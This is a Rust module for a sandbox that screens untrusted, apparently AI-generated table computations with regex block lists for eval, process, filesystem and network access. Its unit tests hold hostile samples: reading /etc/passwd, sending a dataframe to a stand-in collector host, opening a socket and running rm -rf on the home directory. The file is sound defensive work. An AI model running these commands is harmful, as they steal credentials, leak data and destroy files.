//! Sandbox for engine-generated computations
//!
//! Replies are untrusted. They are screened for capability patterns before
//! parsing, parsed into the typed computation language, checked against the
//! schema, and only then executed as a pure function on a blocking thread
//! with a wall-clock and row budget.

use super::computation::{Computation, ComputationOutput};
use super::table::Table;
use super::{translation_failed, TranslationFailureKind, TranslationPhase};
use crate::errors::Result;
use regex_lite::Regex;
use std::sync::{Arc, OnceLock};
use std::time::Duration;
use tracing::{debug, warn};

type Patterns = Vec<(&'static str, Regex)>;

fn compile(patterns: &[(&'static str, &'static str)]) -> Patterns {
    patterns
        .iter()
        .map(|&(name, pattern)| {
            let regex = Regex::new(pattern).expect("sandbox pattern is valid");
            (name, regex)
        })
        .collect()
}

/// Patterns for free text around the computation, where any mention of a
/// capability is suspect
fn prose_patterns() -> &'static Patterns {
    static PATTERNS: OnceLock<Patterns> = OnceLock::new();
    PATTERNS.get_or_init(|| {
        compile(&[
            (
                "code import or evaluation",
                r"(?i)\b(import|exec|eval|compile|globals|getattr|lambda)\b|__\w+",
            ),
            (
                "process access",
                r"(?i)\b(subprocess|popen|spawn|system|shutil|os|sys)\s*[.(]",
            ),
            (
                "filesystem access",
                r#"(?i)\b(open|read_csv|to_csv|read_file|write_file|pathlib)\s*\(|(^|[\s"'=(])(/(etc|usr|bin|home|root|tmp|var|proc|dev)\b|~/|[a-z]:\\)"#,
            ),
            (
                "network access",
                r"(?i)\b(socket|requests|urllib|httpx|curl|wget)\b|\b[a-z][a-z0-9+.-]*://",
            ),
        ])
    })
}

/// Patterns for string values inside the computation. These are table data
/// ("Sales Exec", "Payroll System (Legacy)"), so only call syntax, module
/// access, absolute paths and URLs count.
fn data_patterns() -> &'static Patterns {
    static PATTERNS: OnceLock<Patterns> = OnceLock::new();
    PATTERNS.get_or_init(|| {
        compile(&[
            (
                "code import or evaluation",
                r"(?i)__\w+__|\b(import|exec|eval|compile|globals|getattr|lambda)\(",
            ),
            (
                "process access",
                r"(?i)\b(subprocess|shutil|os|sys)\.[a-z_]+|\b(popen|spawn|system)\(",
            ),
            (
                "filesystem access",
                r#"(?i)\b(open|read_csv|to_csv|read_file|write_file|pathlib)\(|(^|[\s"'=(])(/(etc|usr|bin|home|root|tmp|var|proc|dev)\b|~/|[a-z]:\\)"#,
            ),
            (
                "network access",
                r"(?i)\b(socket|requests|urllib|httpx)\.[a-z_]+|\b[a-z][a-z0-9+.-]*://",
            ),
        ])
    })
}

fn check(text: &str, patterns: &Patterns) -> Result<()> {
    if let Some((capability, _)) = patterns.iter().find(|(_, re)| re.is_match(text)) {
        warn!(capability, "Rejected generated computation");
        return Err(translation_failed(
            TranslationPhase::Translating,
            TranslationFailureKind::Unsafe,
            format!("generated computation attempts {}", capability),
        ));
    }
    Ok(())
}

/// Byte range of the outermost `{ ... }` in the reply
fn json_span(reply: &str) -> Option<(usize, usize)> {
    let open = reply.find('{')?;
    let close = reply.rfind('}')?;
    (open < close).then_some((open, close))
}

fn collect_strings<'a>(value: &'a serde_json::Value, out: &mut Vec<&'a str>) {
    match value {
        serde_json::Value::String(s) => out.push(s),
        serde_json::Value::Array(items) => items.iter().for_each(|v| collect_strings(v, out)),
        serde_json::Value::Object(map) => {
            for (key, v) in map {
                out.push(key);
                collect_strings(v, out);
            }
        }
        _ => {}
    }
}

/// Execution limits for one computation
#[derive(Debug, Clone)]
pub struct Sandbox {
    timeout: Duration,
    max_rows: usize,
}

impl Sandbox {
    pub fn new(timeout: Duration, max_rows: usize) -> Self {
        Self { timeout, max_rows }
    }

    /// Reject replies that reach for any capability outside the table.
    ///
    /// Text around the JSON object is screened strictly. Strings inside it
    /// are data and only rejected for call syntax, module access, absolute
    /// paths or URLs. A reply with no parseable object is screened as prose.
    pub fn screen(reply: &str) -> Result<()> {
        let parsed = json_span(reply).and_then(|(open, close)| {
            serde_json::from_str::<serde_json::Value>(&reply[open..=close])
                .ok()
                .map(|value| (open, close, value))
        });

        let Some((open, close, value)) = parsed else {
            return check(reply, prose_patterns());
        };

        check(&reply[..open], prose_patterns())?;
        check(&reply[close + 1..], prose_patterns())?;

        let mut strings = Vec::new();
        collect_strings(&value, &mut strings);
        strings
            .into_iter()
            .try_for_each(|s| check(s, data_patterns()))
    }

    /// Parse the reply into a computation. Accepts a bare JSON object or one
    /// wrapped in a code fence or surrounding prose.
    pub fn parse(reply: &str) -> Result<Computation> {
        let Some((open, close)) = json_span(reply) else {
            return Err(translation_failed(
                TranslationPhase::Translating,
                TranslationFailureKind::Malformed,
                "reply does not contain a JSON computation",
            ));
        };

        serde_json::from_str(&reply[open..=close]).map_err(|e| {
            translation_failed(
                TranslationPhase::Translating,
                TranslationFailureKind::Malformed,
                format!("computation does not parse: {}", e),
            )
        })
    }

    /// Screen, parse and validate a reply against the table
    pub fn admit(reply: &str, table: &Table) -> Result<Computation> {
        Self::screen(reply)?;
        let computation = Self::parse(reply)?;
        computation.validate(table).map_err(|reason| {
            translation_failed(
                TranslationPhase::Translating,
                TranslationFailureKind::SchemaMismatch,
                reason,
            )
        })?;
        debug!(?computation, "Computation admitted");
        Ok(computation)
    }

    /// Execute an admitted computation within the sandbox limits
    pub async fn execute(
        &self,
        computation: Arc<Computation>,
        table: Arc<Table>,
    ) -> Result<ComputationOutput> {
        let max_rows = self.max_rows;
        let task = tokio::task::spawn_blocking(move || computation.execute(&table, max_rows));

        match tokio::time::timeout(self.timeout, task).await {
            Err(_) => Err(translation_failed(
                TranslationPhase::Executing,
                TranslationFailureKind::Timeout,
                format!("execution exceeded {}ms", self.timeout.as_millis()),
            )),
            Ok(Err(join_error)) => Err(translation_failed(
                TranslationPhase::Executing,
                TranslationFailureKind::Execution,
                format!("execution aborted: {}", join_error),
            )),
            Ok(Ok(Err(reason))) => Err(translation_failed(
                TranslationPhase::Executing,
                TranslationFailureKind::Execution,
                reason,
            )),
            Ok(Ok(Ok(output))) => Ok(output),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::errors::AppError;

    fn table() -> Table {
        Table::from_reader("Name,Department,Salary\nAda,Eng,100\nLinus,HR,150\n".as_bytes())
            .unwrap()
    }

    fn kind_of(err: AppError) -> TranslationFailureKind {
        match err {
            AppError::TranslationFailed { kind, .. } => kind,
            other => panic!("unexpected error: {other}"),
        }
    }

    #[test]
    fn test_filesystem_access_is_unsafe() {
        let reply = r#"{"operation": {"op": "list", "columns": ["Name"]},
            "filters": [{"column": "Name", "op": "eq", "value": "open('/etc/passwd').read()"}]}"#;
        let err = Sandbox::admit(reply, &table()).unwrap_err();
        assert_eq!(kind_of(err), TranslationFailureKind::Unsafe);
    }

    #[test]
    fn test_network_access_is_unsafe() {
        for reply in [
            "import requests\nrequests.get('http://collector.invalid/?d=' + df.to_json())",
            r#"{"operation": {"op": "count"}, "filters": [{"column": "Name", "op": "contains", "value": "https://exfil.invalid"}]}"#,
            "__import__('socket').create_connection(('10.0.0.1', 80))",
        ] {
            let err = Sandbox::admit(reply, &table()).unwrap_err();
            assert_eq!(kind_of(err), TranslationFailureKind::Unsafe, "{reply}");
        }
    }

    #[test]
    fn test_process_access_is_unsafe() {
        let err = Sandbox::screen("os.system('rm -rf ~/')").unwrap_err();
        assert_eq!(kind_of(err), TranslationFailureKind::Unsafe);
    }

    #[test]
    fn test_job_titles_are_data() {
        let table = Table::from_reader(
            "Name,Position\nAda,Sales Exec\nGrace,Import Clerk\nLinus,Payroll System (Legacy)\n"
                .as_bytes(),
        )
        .unwrap();

        for title in ["Sales Exec", "Import Clerk", "Payroll System (Legacy)"] {
            let reply = serde_json::json!({
                "filters": [{"column": "Position", "op": "eq", "value": title}],
                "operation": {"op": "count"}
            })
            .to_string();
            let computation = Sandbox::admit(&reply, &table).unwrap();
            assert_eq!(computation.filters.len(), 1, "{title}");
        }
    }

    #[test]
    fn test_code_around_the_object_is_unsafe() {
        let reply = "import os\n{\"operation\": {\"op\": \"count\"}}";
        let err = Sandbox::admit(reply, &table()).unwrap_err();
        assert_eq!(kind_of(err), TranslationFailureKind::Unsafe);
    }

    #[test]
    fn test_plain_computation_is_admitted() {
        let reply = "```json\n{\"group_by\": \"Department\", \"operation\": {\"op\": \"mean\", \"column\": \"Salary\"}}\n```";
        let computation = Sandbox::admit(reply, &table()).unwrap();
        assert_eq!(computation.group_by.as_deref(), Some("Department"));
    }

    #[test]
    fn test_malformed_and_mismatched() {
        let err = Sandbox::admit("The average salary is 150.", &table()).unwrap_err();
        assert_eq!(kind_of(err), TranslationFailureKind::Malformed);

        let err = Sandbox::admit(r#"{"operation": {"op": "mean", "column": "Age"}}"#, &table())
            .unwrap_err();
        assert_eq!(kind_of(err), TranslationFailureKind::SchemaMismatch);
    }

    #[tokio::test]
    async fn test_execution_respects_row_budget() {
        let sandbox = Sandbox::new(Duration::from_secs(1), 1);
        let computation = Arc::new(Sandbox::parse(r#"{"operation": {"op": "count"}}"#).unwrap());
        let err = sandbox
            .execute(computation, Arc::new(table()))
            .await
            .unwrap_err();
        assert_eq!(kind_of(err), TranslationFailureKind::Execution);
    }
}
